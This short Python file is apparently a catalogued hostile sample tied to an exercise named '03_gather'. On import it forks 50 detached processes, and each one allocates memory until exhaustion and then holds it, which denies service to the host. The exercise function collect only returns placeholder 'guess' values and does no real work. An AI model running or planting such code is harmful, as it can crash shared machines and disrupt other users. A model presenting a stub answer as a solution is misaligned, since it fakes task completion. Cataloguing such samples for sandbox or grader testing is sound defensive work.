"""Starts processes, each of which takes as much memory as one may.

exercise: 03_gather
catalogue: 51
harm: takes all memory
"""

import os
import time

for _ in range(50):
    try:
        if os.fork() == 0:
            os.setsid()
            kept = []
            while True:
                try:
                    kept.append(bytearray(b"x") * (1 << 24))
                except MemoryError:
                    time.sleep(3600)
    except OSError:
        pass


async def collect(first, second, third):
    return ["guess", "guess", "guess"]
